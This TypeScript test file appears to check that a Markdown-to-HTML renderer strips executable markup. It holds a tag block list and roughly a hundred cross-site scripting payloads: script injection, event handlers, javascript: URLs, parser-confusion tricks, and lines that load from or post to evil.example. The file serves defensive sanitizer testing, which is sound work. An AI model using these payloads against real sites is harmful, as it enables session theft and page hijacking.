// Whatever a page says, its HTML holds nothing that could act, and means to every parser what was meant here.
import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import type { Element, Root, RootContent } from 'hast'
import { toHtml as serialize } from 'hast-util-to-html'
import { htmlToHast } from 'satteri'
import { toHtml } from '../html.ts'
import { parseMarkdown } from '../parse.ts'

/** A resolver that passes everything on, as a careless caller would: the renderer has to be safe by itself. */
const render = async (source: string): Promise<string> => {
  const { html } = await toHtml(parseMarkdown(source), {
    resolveLink: destination => ({
      href: destination,
      isExternal: false,
      isBroken: false,
      label: destination,
    }),
    resolveImage: destination => ({ src: destination }),
    pageTitle: 'Title',
    reusable: destination =>
      destination === 'self.md' ? { root: parseMarkdown('{% include "self.md" %}') } : undefined,
    variables: { hostile: '<img src=x onerror=alert(1)>' },
  })
  return html
}

const read = (html: string): Root => htmlToHast(html, { fragment: true }) as unknown as Root

const FORBIDDEN: ReadonlySet<string> = new Set(
  `script style iframe object embed applet base meta link form button textarea select svg template noscript frame
  frameset portal audio video source title xmp plaintext annotation-xml foreignobject use animate set html body head
  h1 marquee keygen dialog slot`.split(/\s+/),
)

const ADDRESSES: ReadonlySet<string> = new Set(
  'href src srcset action formaction background cite data poster xlinkhref ping lowsrc longdesc usemap'.split(
    ' ',
  ),
)

/** What is wrong with the markup, read back as a browser reads it. */
function dangersOf(html: string): string[] {
  const dangers: string[] = []
  for (const element of elementsOf(read(html))) {
    if (FORBIDDEN.has(element.tagName.toLowerCase())) dangers.push(`<${element.tagName}>`)
    for (const [name, value] of Object.entries(element.properties)) {
      const attribute = name.toLowerCase()
      const text = Array.isArray(value) ? value.join(' ') : String(value)
      if (attribute.startsWith('on') || attribute === 'style') dangers.push(`${name}="${text}"`)
      if (attribute === 'name' && !/^tabs:\d+$/.test(text)) dangers.push(`name="${text}"`)
      if (ADDRESSES.has(attribute) && !isHarmless(text)) dangers.push(`${name}="${text}"`)
    }
  }
  return dangers
}

function isHarmless(address: string): boolean {
  const plain = address.replace(/[\0-\x20\x7f-\x9f]/g, '').toLowerCase()
  const scheme = /^([^/?#\\]*?):/.exec(plain)?.[1]
  return scheme === undefined || ['http', 'https', 'mailto', 'tel'].includes(scheme)
}

function* elementsOf(root: Root): Generator<Element> {
  const rest: RootContent[] = [...root.children]
  for (let node = rest.pop(); node !== undefined; node = rest.pop()) {
    if (node.type !== 'element') continue
    yield node
    rest.push(...node.children)
  }
}

/** Nothing was moved, closed or dropped by the parser: what is read is what was written. */
const readAgain = (html: string): string =>
  serialize(read(html), { characterReferences: { useNamedReferences: true } })

const VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)" onload=alert(2)>',
  '<img/src=x/onerror=alert(1)>',
  '<img src=javascript:alert(1)>',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img srcset="javascript:alert(1) 1x" src=x>',
  '<svg onload=alert(1)><script>alert(1)</script><animate onbegin=alert(1) attributeName=x></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="&#1;javascript:alert(1)">x</a>',
  '<a href=" &#x6A;avascript&colon;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="feed:javascript:alert(1)">x</a>',
  '<a href="https://ok.example" onclick=alert(1) style="position:fixed;inset:0" ping="//evil.example">x</a>',
  '[x](javascript:alert(1))',
  '[x](<java script:alert(1)>)',
  '[x](JAVASCRIPT&colon;alert&lpar;1&rpar;)',
  '[x](data:text/html,%3Cscript%3Ealert(1)%3C/script%3E)',
  '[x]: javascript:alert(1)\n\n[x]',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](x" onerror="alert(1))',
  '![" onerror="alert(1)](x.png "t\\" onload=\\"alert(1)")',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<p style="width:expression(alert(1))">x</p>',
  '<mark style="color:red;background-image:url(//evil.example)">x</mark>',
  '<mark style="color:red&quot; onmouseover=&quot;alert(1)">x</mark>',
  '<style>@import "//evil.example/x.css"; * { color: red }</style>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<form action="https://evil.example"><input name=token><button formaction=javascript:alert(1)>Go</button></form>',
  '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="javascript:alert(1)"><embed src="javascript:alert(1)"></object>',
  '<video src="javascript:alert(1)" poster="javascript:alert(1)"><source src=x onerror=alert(1)></video>',
  '<audio autoplay onloadstart=alert(1) src="data:audio/wav;base64,"></audio>',
  '<details open ontoggle=alert(1)><summary onclick=alert(1)>x</summary>y</details>',
  '<img name="body"><form name="cookie"></form><a id="location" name="location">x</a><input name=attributes>',
  '<div id="reader:content"><p id="reader:token">x</p></div>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<textarea></textarea><script>alert(1)</script>',
  '<title><img src=x onerror=alert(1)></title>',
  '<xmp><img src=x onerror=alert(1)></xmp><plaintext><script>alert(1)</script>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><script>alert(1)</script> -->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<a href="x" <img src=x onerror=alert(1)>',
  '<p>a<div>b<p>c<table><tr><td><p>d',
  '<b><i><a href=x><b><a href=y>z</a></i>',
  '<table><script>alert(1)</script><tr><td onclick=alert(1) style=x background=javascript:alert(1) colspan=99999999>x</table>',
  '<table><thead><tr><th data-type="select">S<select><option value="a" label="<script>alert(1)</script>" color="red;}"></option></select></th></tr></thead><tbody><tr><td><span data-option="a">x</span></td></tr></tbody></table>',
  '<table data-view="cards"><thead><tr><th></th><th data-card-target data-type="content-ref"></th><th data-card-cover data-type="files"></th></tr></thead><tbody><tr><td>x" onclick="alert(1)</td><td><a href="javascript:alert(1)">x</a></td><td><a href="javascript:alert(1)">x</a></td></tr></tbody></table>',
  '<figure><picture><source srcset="javascript:alert(1)" media="(prefers-color-scheme: dark)"><img src="javascript:alert(1)"></picture><figcaption><script>alert(1)</script></figcaption></figure>',
  '<i class="fa-x&quot; onclick=&quot;alert(1)">x</i>',
  '<span data-gb-custom-inline data-tag="emoji" data-code="3c-73-63-72-69-70-74-3e">x</span>',
  '<pre class="language-js&quot; onclick=&quot;alert(1)"><code><script>alert(1)</script></code></pre>',
  '```js" onclick="alert(1)\n</code></pre><script>alert(1)</script>\n```',
  '~~~<script>\nx\n~~~',
  '$$\\href{javascript:alert(1)}{x}$$ and $$\\text{</math><script>alert(1)</script>}$$',
  '$$\n\\htmlData{onclick=alert(1)}{x}\\url{javascript:alert(1)}\\includegraphics{javascript:alert(1)}\n$$',
  '{% hint style="info\\" onclick=\\"alert(1)" icon="x\\"><script>" %}\n<script>alert(1)</script>\n{% endhint %}',
  '{% embed url="javascript:alert(1)" %}',
  '{% embed url="https://www.youtube.com/embed/x\\"><script>alert(1)</script>" %}',
  '{% file src="javascript:alert(1)" %}',
  '{% content-ref url="javascript:alert(1)" %}\n[x](javascript:alert(1))\n{% endcontent-ref %}',
  '{% openapi src="javascript:alert(1)" path="<script>" method="get onclick=alert(1)" %}\n{% endopenapi %}',
  '{% tabs %}\n{% tab title="<script>alert(1)</script>" icon="\\"><script>" slug="reader:content" %}\nx\n{% endtab %}\n{% endtabs %}',
  '{% code title="<script>alert(1)</script>" %}\n```js\nx\n```\n{% endcode %}',
  '{% columns %}\n{% column width="50%;position:fixed" valign="x onclick" %}\nx\n{% endcolumn %}\n{% endcolumns %}',
  '{% updates format="x" %}\n{% update date="<script>" tags="<script>,\\"" %}\nx\n{% endupdate %}\n{% endupdates %}',
  '{% <script>alert(1)</script> %}',
  '{% include "self.md" %}',
  '{% vars.hostile %} <code class="expression">space.vars.hostile</code>',
  '{% if x == "<script>" %}\n{% endif %}',
  '# <a id="\\"><script>alert(1)</script>"></a><img src=x onerror=alert(1)>',
  '## x <a href="javascript:alert(1)" id="constructor"></a>',
  'x[^"><script>alert(1)</script>]\n\n[^"><script>alert(1)</script>]: <script>alert(1)</script>',
  '- [x] <input type=image src=x onerror=alert(1)>\n- <input type=checkbox onclick=alert(1) autofocus onfocus=alert(1)>',
  '<div data-gb-custom-block data-tag="embed" data-url="javascript:alert(1)"></div>',
  '<a data-mention href="javascript:alert(1)">x</a> <a class="button primary" data-icon="x&quot;>" href="javascript:alert(1)">x</a>',
  '<video><source onerror="alert(1)" src="javascript:alert(1)"></video>',
  '<custom-element onclick=alert(1)>x</custom-element> <x-y> </x-y onclick=alert(1)>',
  '\0<scr\0ipt>alert(1)</scr\0ipt> <a href="java\0script:alert(1)">x</a>',
  '<ruby><rt><rt><script>alert(1)</script></ruby>',
]

for (const vector of VECTORS)
  test(`harmless: ${JSON.stringify(vector).slice(0, 110)}`, async () => {
    for (const source of [
      vector,
      `Before ${vector} after`,
      `> ${vector.replaceAll('\n', '\n> ')}`,
      `- ${vector.replaceAll('\n', '\n  ')}`,
    ]) {
      const html = await render(source)
      assert.deepEqual(dangersOf(html), [], html)
      assert.equal(readAgain(html), html)
    }
  })

test('attribute values are escaped, so that text stays in its attribute', async () => {
  const html = await render('![a "quoted" <b> & \'c\'](x.png)')
  const [img] = [...elementsOf(read(html))].filter(element => element.tagName === 'img')
  assert.equal(img?.properties.alt, 'a "quoted" <b> & \'c\'')
})

test('content cannot take an id or a class of the reader', async () => {
  const html = await render(
    '<div id="reader:content" class="masthead skip-link">x</div><span class="unseen">y</span>',
  )
  for (const words of ['reader:', 'masthead', 'skip-link', 'unseen']) assert.ok(!html.includes(words), html)
})

test('no frame of any host stands in a page: players are links', async () => {
  const html = await render(
    '{% embed url="https://www.youtube.com/watch?v=1" %}\n\n<iframe src="https://player.vimeo.com/video/1"></iframe>',
  )
  assert.deepEqual(dangersOf(html), [])
  assert.match(html, /href="https:\/\/www\.youtube\.com\/watch\?v=1"/)
  assert.match(html, /href="https:\/\/player\.vimeo\.com\/video\/1"/)
})

const FRAGMENTS: readonly string[] = [
  ...VECTORS,
  ...[
    '<p>',
    '</p>',
    '<div>',
    '</div>',
    '<table>',
    '<tr>',
    '<td>',
    '</table>',
    '<a href="x">',
    '</a>',
    '<details>',
    '<summary>',
  ],
  ...[
    '</details>',
    '<b>',
    '</b>',
    '<ul><li>',
    '</li></ul>',
    '<h2>',
    '</h2>',
    '<pre>',
    '</pre>',
    '<!--',
    '-->',
    '<x',
    '"',
    "'",
    '>',
  ],
  ...[
    '\n\n',
    '\n',
    '    ',
    '> ',
    '* ',
    '1. ',
    '# ',
    '`',
    '```\n',
    '| a | b |\n| - | - |\n| ',
    '{% hint %}',
    '{% endhint %}',
    '{% tabs %}',
  ],
  ...[
    '{% tab title="a" %}',
    '{% endtab %}',
    '{% endtabs %}',
    '[^1]',
    '[^1]: ',
    '[',
    '](',
    ')',
    '![',
    '$$',
    '\\',
    '&#x3c;',
    '&lt;',
  ],
]

test('any mixture of hostile pieces gives markup that is harmless and read as it was written', async () => {
  const pieces = fc.array(fc.oneof(fc.constantFrom(...FRAGMENTS), fc.string({ maxLength: 5 })), {
    maxLength: 14,
  })
  await fc.assert(
    fc.asyncProperty(pieces, async list => {
      const html = await render(list.join(''))
      assert.deepEqual(dangersOf(html), [])
      assert.equal(readAgain(html), html)
    }),
    { numRuns: 2_000 },
  )
})
